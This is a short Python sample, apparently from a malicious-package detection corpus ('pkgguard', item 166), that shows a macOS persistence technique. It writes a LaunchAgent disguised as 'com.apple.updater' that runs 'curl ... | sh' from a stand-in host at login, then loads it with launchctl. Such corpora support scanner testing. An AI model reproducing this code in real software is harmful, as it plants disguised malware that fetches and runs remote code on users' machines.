# pkgguard corpus 166 (persistence), modelled on [telnyx]; inert, never run.
import os
import plistlib
import subprocess

path = os.path.join(os.path.expanduser("~"), "Library", "LaunchAgents", "com.apple.updater.plist")
with open(path, "wb") as f:
    plistlib.dump({
        "Label": "com.apple.updater",
        "ProgramArguments": ["/bin/sh", "-c", "curl -s https://cdn.example/m | sh"],
        "RunAtLoad": True,
    }, f)
subprocess.run(["launchctl", "load", path])
